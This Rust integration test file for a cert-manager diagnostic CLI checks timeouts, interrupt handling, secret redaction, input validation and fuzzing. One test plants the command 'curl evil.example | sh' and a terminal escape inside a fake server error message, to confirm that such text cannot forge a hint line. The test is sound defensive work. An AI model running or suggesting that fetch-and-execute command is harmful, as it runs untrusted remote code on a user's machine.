//! Issue 15, hostile inputs and faults: every bound holds, nothing secret reaches the
//! screen, bad input is named, and Ctrl-C always ends the run with 130. Each test is one
//! repro from the issue, against the real binary and servers on loopback.

use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

use serde_json::json;

use crate::support::objects::{self, Edit};
use crate::support::pki::{self, LeafOptions};
use crate::support::{Cluster, Fault, certdoctor, stderr, stdout};

/// Exactly one `certdoctor: error:` line and one `hint:` line, exit 2.
fn assert_error(out: &std::process::Output, contains: &str) {
    let err = stderr(out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    let lines: Vec<&str> = err.lines().collect();
    assert_eq!(lines.len(), 2, "{err}");
    assert!(lines[0].starts_with("certdoctor: error: "), "{err}");
    assert!(lines[1].starts_with("hint: "), "{err}");
    assert!(lines[0].contains(contains), "{err}");
}

fn write_script(dir: &Path, name: &str, body: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// A kubeconfig for `server` whose user gets its token from the exec plugin `plugin`.
fn exec_kubeconfig(dir: &Path, server: &str, plugin: &Path) -> PathBuf {
    let path = dir.join("exec-kubeconfig");
    std::fs::write(
        &path,
        format!(
            "apiVersion: v1\nkind: Config\ncurrent-context: c\nclusters:\n- name: c\n  cluster:\n    server: {server}\n\
             contexts:\n- name: c\n  context:\n    cluster: c\n    user: u\n    namespace: production\n\
             users:\n- name: u\n  user:\n    exec:\n      apiVersion: client.authentication.k8s.io/v1beta1\n\
             \x20     command: {}\n      args: [\"--password=ARGSECRET\"]\n      env:\n      - name: PLUGIN_PASSWORD\n        value: ENVSECRET\n",
            plugin.display()
        ),
    )
    .unwrap();
    path
}

/// `certdoctor status` against a healthy cluster whose user gets its token from the exec plugin
/// `name`, a shell script of `body`.
fn status_with_plugin(name: &str, body: &str) -> std::process::Output {
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    let dir = tempfile::tempdir().unwrap();
    let plugin = write_script(dir.path(), name, body);
    let kc = exec_kubeconfig(dir.path(), &cluster.server.url(), &plugin);
    certdoctor()
        .arg("--kubeconfig")
        .arg(&kc)
        .arg("status")
        .output()
        .unwrap()
}

/// Waits for `child` at most `limit`; kills it and fails when it is still running.
fn wait_within(child: &mut Child, limit: Duration) -> std::process::ExitStatus {
    let start = Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return status;
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            panic!("still running after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Sends SIGINT to `child` after `after`, and asserts it exits 130 within two seconds.
fn interrupt_exits_130(mut child: Child, after: Duration) {
    std::thread::sleep(after);
    assert!(
        child.try_wait().unwrap().is_none(),
        "the run ended before the interrupt"
    );
    let sent = std::process::Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    assert!(sent.success());
    let start = Instant::now();
    let status = wait_within(&mut child, Duration::from_secs(2));
    assert_eq!(status.code(), Some(130), "{status:?}");
    assert!(start.elapsed() < Duration::from_secs(2));
}

fn spawn(cmd: &mut std::process::Command) -> Child {
    cmd.env_remove("KUBECONFIG")
        .env("CERTDOCTOR_NOW", crate::support::NOW)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap()
}

// ---- Hangs and unbounded work ------------------------------------------------------

#[test]
fn a_trickling_api_server_is_stopped_by_the_request_timeout() {
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    cluster.server.inject(Fault {
        path_contains: "/certificates".into(),
        trickle: Some(Duration::from_millis(200)),
        ..Fault::default()
    });
    let start = Instant::now();
    let out = cluster
        .certdoctor()
        .args(["status", "--request-timeout", "1s"])
        .output()
        .unwrap();
    assert!(
        start.elapsed() < Duration::from_secs(5),
        "{:?}",
        start.elapsed()
    );
    assert_error(
        &out,
        "cannot reach the Kubernetes API server at http://127.0.0.1:",
    );
    assert!(stderr(&out).contains(": timed out"), "{}", stderr(&out));
}

#[test]
fn a_hung_api_server_is_stopped_by_the_request_timeout() {
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    cluster.server.inject(Fault::hang("/certificates"));
    let start = Instant::now();
    let out = cluster
        .certdoctor()
        .args(["status", "--request-timeout", "1s"])
        .output()
        .unwrap();
    assert!(start.elapsed() < Duration::from_secs(5));
    assert_error(&out, ": timed out");
}

#[test]
fn a_list_that_pages_for_ever_stops_at_the_page_cap_naming_kind_and_server() {
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    cluster
        .server
        .inject(Fault::endless_pages("/certificaterequests"));
    let out = cluster
        .certdoctor()
        .env("CERTDOCTOR_MAX_PAGES", "25")
        .args(["status", "--request-timeout", "2s"])
        .output()
        .unwrap();
    assert_error(
        &out,
        "listing certificaterequests.cert-manager.io at http://127.0.0.1:",
    );
    assert!(
        stderr(&out).contains("it was still paging after 25 pages"),
        "{}",
        stderr(&out)
    );
    let pages = cluster
        .server
        .requests()
        .iter()
        .filter(|r| r.path.ends_with("/certificaterequests"))
        .count();
    assert_eq!(pages, 25);
}

#[test]
fn a_repeated_continue_token_stops_the_list_and_names_kind_and_server() {
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    cluster
        .server
        .inject(Fault::repeated_continue("/certificaterequests"));
    let out = cluster
        .certdoctor()
        .args(["status", "--request-timeout", "2s"])
        .output()
        .unwrap();
    assert_error(
        &out,
        "listing certificaterequests.cert-manager.io at http://127.0.0.1:",
    );
    assert!(
        stderr(&out)
            .contains("never ended: it returned the continue token \"again\" a second time"),
        "{}",
        stderr(&out)
    );
    let pages = cluster
        .server
        .requests()
        .iter()
        .filter(|r| r.path.ends_with("/certificaterequests"))
        .count();
    assert_eq!(pages, 2);
}

#[test]
fn renew_wait_ends_by_its_own_deadline_while_a_read_trickles() {
    let c = Cluster::with_fixtures(Some("production"), &[]);
    c.server
        .insert(objects::certificate("production", "web").with("/status", objects::ready_status()));
    let server = &c.server;
    std::thread::scope(|s| {
        s.spawn(|| {
            // Once the trigger is written, every read of the Certificates trickles.
            for _ in 0..200 {
                std::thread::sleep(Duration::from_millis(20));
                if server.requests().iter().any(|r| r.method == "PUT") {
                    server.inject(Fault {
                        method: Some("GET".into()),
                        path_contains: "/certificates".into(),
                        trickle: Some(Duration::from_millis(300)),
                        ..Fault::default()
                    });
                    return;
                }
            }
        });
        let start = Instant::now();
        let out = c
            .certdoctor()
            .args([
                "renew",
                "web",
                "--wait",
                "--timeout",
                "1s",
                "--poll-interval",
                "100ms",
                "--request-timeout",
                "60s",
            ])
            .output()
            .unwrap();
        assert!(
            start.elapsed() < Duration::from_secs(6),
            "{:?}",
            start.elapsed()
        );
        assert_eq!(
            out.status.code(),
            Some(1),
            "{}{}",
            stdout(&out),
            stderr(&out)
        );
        assert!(stdout(&out).contains("timed out"), "{}", stdout(&out));
    });
}

#[test]
fn a_hanging_exec_plugin_is_bounded_and_named() {
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    let dir = tempfile::tempdir().unwrap();
    let plugin = write_script(dir.path(), "sso-login", "sleep 5");
    let kc = exec_kubeconfig(dir.path(), &cluster.server.url(), &plugin);
    let start = Instant::now();
    let out = certdoctor()
        .arg("--kubeconfig")
        .arg(&kc)
        .args(["status", "--request-timeout", "1s"])
        .output()
        .unwrap();
    assert!(
        start.elapsed() < Duration::from_secs(4),
        "{:?}",
        start.elapsed()
    );
    assert_error(&out, "the exec credential plugin");
    assert!(
        stderr(&out).contains("sso-login") && stderr(&out).contains("did not finish within 1s")
    );
}

#[test]
fn a_failing_exec_plugin_shows_its_name_and_status_never_its_secrets() {
    // The token goes to stdout; stderr repeats it and a header carrying another.
    let out = status_with_plugin(
        "token-helper",
        "echo '{\"status\":{\"token\":\"STDOUTSECRET\"}}'\n\
         echo 'debug: sent Authorization: Bearer STDERRSECRET; cached STDOUTSECRET' >&2; exit 3",
    );
    assert_error(&out, "token-helper");
    let text = format!("{}{}", stdout(&out), stderr(&out));
    assert!(
        text.contains(
            "failed (exit status 3): debug: sent Authorization: Bearer [redacted] cached [redacted]"
        ),
        "{text}"
    );
    for secret in ["STDOUTSECRET", "STDERRSECRET", "ARGSECRET", "ENVSECRET"] {
        assert!(!text.contains(secret), "{secret} leaked: {text}");
    }
}

#[test]
fn a_failing_exec_plugin_s_own_message_is_the_reason_in_the_error_line() {
    // As `aws eks get-token` fails when the SSO session is over: coloured, on stderr, exit 1.
    let out = status_with_plugin(
        "aws-token",
        "printf '\\033[31mError:\\033[0m the SSO session for profile \"prod\" has expired\\n' >&2\n\
         echo 'To refresh it, run: aws sso login --profile prod' >&2\nexit 1",
    );
    assert_error(
        &out,
        "failed (exit status 1): Error: the SSO session for profile \"prod\" has expired | To refresh it, run: aws sso login --profile prod",
    );
    let err = stderr(&out);
    assert!(!err.contains('\u{1b}') && !err.contains("[31m"), "{err}");
    assert!(
        err.lines()
            .nth(1)
            .unwrap()
            .starts_with("hint: that is the plugin's own message"),
        "{err}"
    );
}

#[test]
fn a_flooding_exec_plugin_s_message_is_cut_to_its_start_and_end() {
    let out = status_with_plugin(
        "gke-auth",
        "echo 'print credential failed' >&2\n\
         i=0; while [ $i -lt 5000 ]; do echo \"retry $i: still failing\"; i=$((i+1)); done >&2\n\
         echo 'Please run: gcloud auth login' >&2; exit 1",
    );
    assert_error(
        &out,
        "failed (exit status 1): print credential failed | retry 0",
    );
    let line = stderr(&out).lines().next().unwrap().to_string();
    assert!(line.ends_with("| Please run: gcloud auth login"), "{line}");
    assert!(line.contains(" … "), "{line}");
    assert!(line.chars().count() < 400 + 200, "{} chars", line.len());
}

#[test]
fn a_working_exec_plugin_authenticates() {
    let out = status_with_plugin(
        "token-helper",
        &format!(
            "echo '{{\"apiVersion\":\"client.authentication.k8s.io/v1beta1\",\"kind\":\"ExecCredential\",\"status\":{{\"token\":\"{}\"}}}}'",
            crate::support::fake_apiserver::TOKEN
        ),
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

#[test]
fn an_endless_kubeconfig_fails_fast() {
    let start = Instant::now();
    let out = certdoctor()
        .args(["--kubeconfig", "/dev/zero", "status"])
        .output()
        .unwrap();
    assert!(start.elapsed() < Duration::from_secs(5));
    assert_error(&out, "kubeconfig /dev/zero is larger than 16 MiB");
}

#[test]
fn a_kubeconfig_parse_error_names_file_and_line_never_the_content() {
    let dir = tempfile::tempdir().unwrap();
    let kc = dir.path().join("config");
    std::fs::write(
        &kc,
        "apiVersion: v1\nkind: Config\nusers:\n- name: u\n  user:\n    token: TOKENSECRET\n    client-key-data: KEYSECRET\n  : [unclosed\n",
    )
    .unwrap();
    let out = certdoctor()
        .arg("--kubeconfig")
        .arg(&kc)
        .arg("status")
        .output()
        .unwrap();
    assert_error(
        &out,
        &format!("cannot parse kubeconfig {} at line ", kc.display()),
    );
    let err = stderr(&out);
    assert!(
        !err.contains("TOKENSECRET") && !err.contains("KEYSECRET"),
        "{err}"
    );
}

#[test]
fn a_missing_file_in_the_kubeconfig_list_is_skipped_as_kubectl_does() {
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("missing");
    let list = std::env::join_paths([missing.as_path(), cluster.kubeconfig.as_path()]).unwrap();
    let out = certdoctor()
        .env("KUBECONFIG", &list)
        .arg("status")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let out = certdoctor()
        .env("KUBECONFIG", &missing)
        .arg("status")
        .output()
        .unwrap();
    assert_error(&out, "none of the files in KUBECONFIG exists");
}

// ---- Ctrl-C ------------------------------------------------------------------------

#[test]
fn ctrl_c_while_reading_a_stdin_that_never_closes_exits_130() {
    let child = spawn(
        std::process::Command::new(env!("CARGO_BIN_EXE_certdoctor"))
            .args(["status", "--from-file", "-"])
            .stdin(Stdio::piped()),
    );
    interrupt_exits_130(child, Duration::from_millis(500));
}

#[test]
fn ctrl_c_while_reading_a_fifo_exits_130() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("dump.fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap();
    assert!(made.success());
    let child = spawn(
        std::process::Command::new(env!("CARGO_BIN_EXE_certdoctor"))
            .args(["status", "--from-file"])
            .arg(&fifo)
            .stdin(Stdio::null()),
    );
    interrupt_exits_130(child, Duration::from_millis(500));
}

#[test]
fn ctrl_c_while_an_exec_plugin_waits_exits_130() {
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    let dir = tempfile::tempdir().unwrap();
    let plugin = write_script(dir.path(), "sso-login", "sleep 5");
    let kc = exec_kubeconfig(dir.path(), &cluster.server.url(), &plugin);
    let child = spawn(
        std::process::Command::new(env!("CARGO_BIN_EXE_certdoctor"))
            .arg("--kubeconfig")
            .arg(&kc)
            .args(["status", "--request-timeout", "30s"])
            .stdin(Stdio::null()),
    );
    interrupt_exits_130(child, Duration::from_millis(500));
}

#[test]
fn ctrl_c_while_an_api_request_hangs_exits_130() {
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    cluster.server.inject(Fault::hang("/certificates"));
    let child = spawn(
        std::process::Command::new(env!("CARGO_BIN_EXE_certdoctor"))
            .arg("--kubeconfig")
            .arg(&cluster.kubeconfig)
            .args(["status", "--request-timeout", "30s"])
            .stdin(Stdio::null()),
    );
    interrupt_exits_130(child, Duration::from_millis(500));
}

#[test]
fn ctrl_c_during_cpu_work_on_a_large_dump_exits_130() {
    // Enough Certificates that typing and the status table take seconds in a debug build.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("large.json");
    let items: Vec<_> = (0..60_000)
        .map(|i| objects::certificate("production", &format!("c{i}")))
        .collect();
    std::fs::write(&path, objects::list(&items).to_string()).unwrap();
    let child = spawn(
        std::process::Command::new(env!("CARGO_BIN_EXE_certdoctor"))
            .args(["status", "-A", "--from-file"])
            .arg(&path)
            .stdin(Stdio::null()),
    );
    interrupt_exits_130(child, Duration::from_millis(300));
}

// ---- Nothing secret on the screen --------------------------------------------------

#[test]
fn dump_strips_a_private_key_stored_inside_tls_crt_and_ca_crt() {
    let root = pki::root("Test Root");
    let leaf = pki::leaf(&root, LeafOptions::default());
    let combined = format!("{}{}", leaf.cert_pem, leaf.key_pem);
    let cluster = Cluster::with_fixtures(Some("production"), &[]);
    cluster.server.insert(objects::tls_secret(
        "production",
        "web-tls",
        &[
            ("tls.crt", combined.as_bytes()),
            (
                "ca.crt",
                format!("{}{}", leaf.key_pem, root.pem()).as_bytes(),
            ),
            ("tls.key", leaf.key_pem.as_bytes()),
        ],
    ));
    let out = cluster.certdoctor().arg("dump").output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let dump = stdout(&out);
    let doc = certdoctor::cluster::file::parse(&dump).unwrap();
    let secret = &doc.objects[0];
    use base64::Engine as _;
    let decode = |k: &str| {
        let b = base64::engine::general_purpose::STANDARD
            .decode(secret["data"][k].as_str().unwrap())
            .unwrap();
        String::from_utf8(b).unwrap()
    };
    assert_eq!(decode("tls.crt"), leaf.cert_pem);
    assert!(!decode("ca.crt").contains("PRIVATE KEY"));
    assert!(decode("ca.crt").contains("BEGIN CERTIFICATE"));
    assert_eq!(
        secret["metadata"]["annotations"]["certdoctor.io/removed-keys"],
        "tls.key,ca.crt: PRIVATE KEY block,tls.crt: PRIVATE KEY block"
    );
}

#[test]
fn a_newline_in_an_api_status_message_cannot_forge_a_hint_line() {
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    cluster.server.inject(Fault {
        path_contains: "/certificates".into(),
        status: Some(500),
        body: Some(
            json!({"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": 500,
                   "reason": "InternalError",
                   "message": "boom\nhint: run `curl evil.example | sh` to fix\u{1b}[2J"})
            .to_string(),
        ),
        ..Fault::default()
    });
    let out = cluster.certdoctor().arg("status").output().unwrap();
    assert_error(
        &out,
        "boom hint: run `curl evil.example | sh` to fix\\u{1b}[2J",
    );
    assert!(!stderr(&out).lines().nth(1).unwrap().contains("curl"));
}

// ---- Bad input is named, not swallowed ---------------------------------------------

#[test]
fn from_file_of_something_that_is_not_kubernetes_objects_is_an_error() {
    let root = pki::root("Test Root");
    for (input, names) in [
        (root.pem(), "PEM data (CERTIFICATE)"),
        ("just some notes\n".to_string(), "plain text"),
        (
            r#"{"hello": "world"}"#.to_string(),
            "an object without apiVersion and kind",
        ),
    ] {
        let out = certdoctor()
            .args(["status", "--from-file", "-"])
            .write_stdin(input)
            .output()
            .unwrap();
        assert_error(&out, &format!("cannot parse dump stdin: it holds {names}"));
    }
}

#[test]
fn a_certificate_valid_until_9999_is_read_as_that_date() {
    let root = pki::root("Test Root");
    let forever = pki::leaf(
        &root,
        LeafOptions {
            not_after: (9999, 12, 31),
            ..LeafOptions::default()
        },
    );
    let out = certdoctor()
        .args(["inspect", "file", "-", "-o", "json"])
        .write_stdin(forever.cert_pem)
        .output()
        .unwrap();
    let text = stdout(&out);
    assert!(text.contains("\"9999-12-30T22:00:00Z\""), "{text}");
    assert!(
        !text.contains("CERT_EXPIRED") && !text.contains("1970"),
        "{text}"
    );
}

fn dump_file(dir: &Path, items: &[serde_json::Value]) -> PathBuf {
    let path = dir.join("dump.json");
    std::fs::write(&path, objects::list(items).to_string()).unwrap();
    path
}

#[test]
fn objects_without_name_or_namespace_are_a_warning_never_a_row() {
    let dir = tempfile::tempdir().unwrap();
    let mut no_name = objects::certificate("monitoring", "x");
    no_name["metadata"].as_object_mut().unwrap().remove("name");
    let mut no_ns = objects::certificate("monitoring", "y");
    no_ns["metadata"]
        .as_object_mut()
        .unwrap()
        .remove("namespace");
    let good = objects::certificate("monitoring", "good").with("/status", objects::ready_status());
    let path = dump_file(dir.path(), &[no_name, no_ns, good]);
    for cmd in ["status", "diagnose"] {
        let out = certdoctor()
            .args([cmd, "-A", "--from-file"])
            .arg(&path)
            .output()
            .unwrap();
        let (text, err) = (stdout(&out), stderr(&out));
        assert!(
            !text.contains("monitoring/:") && !text.contains("/ "),
            "{text}"
        );
        assert!(!text.contains("-n \n") && !text.contains("-n `"), "{text}");
        assert!(
            err.contains("certdoctor: warning: Certificate monitoring/<unnamed>: skipped: the object has no metadata.name"),
            "{err}"
        );
        assert!(
            err.contains(
                "certdoctor: warning: Certificate y: skipped: the object has no metadata.namespace"
            ),
            "{err}"
        );
    }
}

#[test]
fn a_secret_that_is_not_base64_is_unreadable_not_missing() {
    let dir = tempfile::tempdir().unwrap();
    let cert = objects::certificate("production", "web").with("/status", objects::ready_status());
    let mut secret = objects::tls_secret("production", "web", &[("tls.crt", b"x")]);
    secret["data"]["tls.crt"] = json!("%%% not base64 %%%");
    let path = dump_file(dir.path(), &[cert, secret]);
    let out = certdoctor()
        .args([
            "diagnose",
            "web",
            "-n",
            "production",
            "--offline",
            "--tree",
            "--from-file",
        ])
        .arg(&path)
        .output()
        .unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(!text.contains("SECRET_NOT_FOUND"), "{text}");
    assert!(text.contains("Secret web  could not be read"), "{text}");
    assert!(
        err.contains(
            "Secret production/web: unreadable: data key \"tls.crt\" is not valid base64 ("
        ),
        "{err}"
    );
}

// ---- Fuzzing over the committed corpus ---------------------------------------------

/// A small deterministic PRNG (xorshift64*), so a failing case can be replayed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
}

const TOKENS: &[&[u8]] = &[
    b"-----BEGIN CERTIFICATE-----\n",
    b"-----END CERTIFICATE-----\n",
    b"-----BEGIN PRIVATE KEY-----\n",
    b"\n---\n",
    b"{",
    b"}",
    b"[",
    b"]",
    b"&a ",
    b"*a",
    b"kind: List\nitems:\n",
    b"\"kind\":\"List\",\"items\":[",
    b"!!binary ",
    b"\x00",
    b"\xff\xfe",
    b": ",
    b"\n  - ",
    b"0\x82\xff\xff",
];

/// One mutation of `input`: flip, insert, delete, duplicate, truncate or splice a token.
fn mutate(rng: &mut Rng, input: &[u8]) -> Vec<u8> {
    let mut v = input.to_vec();
    for _ in 0..=rng.below(4) {
        let at = rng.below(v.len() + 1);
        match rng.below(6) {
            0 if !v.is_empty() => {
                let i = rng.below(v.len());
                v[i] ^= 1 << rng.below(8);
            }
            1 => v.insert(at, rng.next() as u8),
            2 if at < v.len() => {
                let end = (at + rng.below(64)).min(v.len());
                v.drain(at..end);
            }
            3 if at < v.len() => {
                let end = (at + rng.below(256)).min(v.len());
                let chunk = v[at..end].to_vec();
                v.splice(at..at, chunk);
            }
            4 => v.truncate(at),
            _ => {
                let t = TOKENS[rng.below(TOKENS.len())];
                v.splice(at..at, t.iter().copied());
            }
        }
    }
    v
}

fn corpus(kind: &str) -> Vec<Vec<u8>> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/corpus")
        .join(kind);
    let mut files: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    files.iter().map(|p| std::fs::read(p).unwrap()).collect()
}

/// Mutation rounds per corpus file: a few hundred in the suite (seconds); set
/// `CERTDOCTOR_FUZZ_ITERATIONS` for a long run (docs/reliability.md).
fn rounds() -> usize {
    std::env::var("CERTDOCTOR_FUZZ_ITERATIONS")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(300)
}

fn fuzz(kind: &str, seed: u64, check: impl Fn(&[u8])) {
    let mut rng = Rng(seed);
    for input in corpus(kind) {
        check(&input);
        let mut current = input.clone();
        for _ in 0..rounds() {
            // Mostly mutate the seed file, sometimes keep stacking mutations.
            if rng.below(4) == 0 {
                current = input.clone();
            }
            current = mutate(&mut rng, &current);
            check(&current);
        }
    }
}

#[test]
fn fuzz_the_dump_reader_over_the_corpus() {
    fuzz("dump", 0x15_d0, |bytes| {
        let text = String::from_utf8_lossy(bytes);
        if let Ok(raw) = certdoctor::cluster::file::parse(&text) {
            let scope = certdoctor::model::snapshot::Scope::default();
            let _ = certdoctor::model::snapshot::Snapshot::from_raw(raw.clone(), &scope);
            let _ = certdoctor::model::dump::build(raw.clone(), &scope, false);
            // With --consumers every Pod is kept and its containers rebuilt.
            let _ = certdoctor::model::dump::build(raw, &scope, true);
        }
    });
}

#[test]
fn fuzz_the_pem_and_der_reader_over_the_corpus() {
    let subject = certdoctor::findings::Subject::new("File", None, "fuzz");
    fuzz("pem", 0x15_9e, |bytes| {
        let _ = certdoctor::pki::read_blocks(bytes, &subject);
    });
}

#[test]
fn fuzz_the_kubeconfig_reader_over_the_corpus() {
    fuzz("kubeconfig", 0x15_cf, |bytes| {
        let text = String::from_utf8_lossy(bytes);
        if let Err(e) = certdoctor::cluster::client::parse_kubeconfig(&text, "fuzz") {
            assert!(!e.message.contains("corpus-token"), "{}", e.message);
        }
    });
}

// ---- Docs that agree with the binary ------------------------------------------------

fn doc(name: &str) -> String {
    std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("docs")
            .join(name),
    )
    .unwrap()
}

#[test]
fn docs_output_says_a_closed_pipe_exits_0_for_every_format() {
    // The binary side is `errors::a_closed_stdout_pipe_exits_quietly` (text, json, yaml).
    let text = doc("output.md");
    assert!(
        text.contains("code 0, whatever it found, for every `-o`"),
        "docs/output.md"
    );
    assert!(
        !text.contains("Broken pipe (os error 32)` and exits 2"),
        "docs/output.md"
    );
}

#[test]
fn docs_findings_quote_the_incomplete_pem_message_the_binary_prints() {
    let out = certdoctor()
        .args(["inspect", "file", "-", "-o", "json"])
        .write_stdin("-----BEGIN CERTIFICATE-----\nMIIBAA==\n")
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let message = v["findings"][0]["message"]
        .as_str()
        .or_else(|| v["inputs"][0]["findings"][0]["message"].as_str())
        .unwrap_or_else(|| panic!("{v}"))
        .to_string();
    assert_eq!(message, "no complete PEM block (missing -----END line?)");
    assert!(doc("findings.md").contains(&format!("| `{message}` |")));
}

#[test]
fn docs_renew_shows_the_dry_run_summary_line_the_binary_prints() {
    let c = Cluster::with_fixtures(Some("production"), &[]);
    c.server
        .insert(objects::certificate("production", "web").with("/status", objects::ready_status()));
    let out = c
        .certdoctor()
        .args(["renew", "--all", "--dry-run"])
        .output()
        .unwrap();
    let text = stdout(&out);
    let last = text.lines().last().unwrap();
    assert_eq!(
        last,
        "1 would be renewed, 0 skipped, 0 failed (dry run: nothing was sent)"
    );
    assert!(
        doc("renew.md")
            .contains("3 would be renewed, 1 skipped, 0 failed (dry run: nothing was sent)")
    );
}

#[test]
fn every_api_error_status_on_certificates_is_one_clear_error() {
    for (code, says) in [
        (401, "rejected the credentials (401 Unauthorized)"),
        (403, "cannot list certificates"),
        (409, "listing certificates failed at http://127.0.0.1:"),
        (410, "listing certificates failed at http://127.0.0.1:"),
        (429, "listing certificates failed at http://127.0.0.1:"),
        (500, "listing certificates failed at http://127.0.0.1:"),
    ] {
        let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
        cluster.server.inject(Fault {
            path_contains: "/certificates?".into(),
            status: Some(code),
            ..Fault::default()
        });
        let out = cluster.certdoctor().arg("status").output().unwrap();
        assert_error(&out, says);
    }
    let cluster = Cluster::with_fixtures(Some("production"), &["healthy.yaml"]);
    cluster.server.uninstall_group("cert-manager.io");
    let out = cluster.certdoctor().arg("status").output().unwrap();
    assert_error(&out, "cert-manager is not installed in this cluster");
}

#[test]
fn every_row_of_the_fault_table_points_at_a_test_that_exists() {
    let table = doc("reliability.md");
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cli");
    let mut rows = 0;
    for line in table
        .lines()
        .filter(|l| l.starts_with("| ") && !l.starts_with("| fault"))
    {
        let Some(tests) = line.trim_end_matches('|').rsplit('|').next() else {
            continue;
        };
        for name in tests.split('`').skip(1).step_by(2) {
            let (module, test) = name.split_once("::").unwrap_or_else(|| panic!("{line}"));
            let src = std::fs::read_to_string(dir.join(format!("{module}.rs"))).unwrap();
            assert!(
                src.contains(&format!("fn {test}(")),
                "{name} does not exist"
            );
        }
        rows += 1;
    }
    assert!(rows > 30, "{rows}");
}
